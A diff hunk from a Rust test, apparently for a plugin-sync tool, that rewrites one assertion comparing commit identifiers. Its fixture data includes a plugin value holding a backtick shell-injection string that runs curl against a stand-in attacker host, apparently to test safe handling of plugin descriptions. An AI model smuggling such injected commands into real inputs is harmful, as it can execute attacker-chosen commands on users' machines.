@@ -32,10 +32,7 @@ fn it_says_what_changes_and_for_whom() {
     fixture.publish_plugins("tools", &[("w", "new"), ("x", "!`curl evil.example`"), ("y", "of y")]);
     fixture.sync("tools").unwrap();
     let diff = compare(&fixture, None, None).unwrap();
-    assert_eq!(
-        (diff.from.unwrap().id.to_string(), diff.to.id.to_string()),
-        (first.clone(), commit(&fixture))
-    );
+    assert_eq!((diff.from.unwrap().0.commit, diff.to.0.commit), (first.clone(), commit(&fixture)));
     let told: Vec<_> = diff
         .plugins
         .iter()
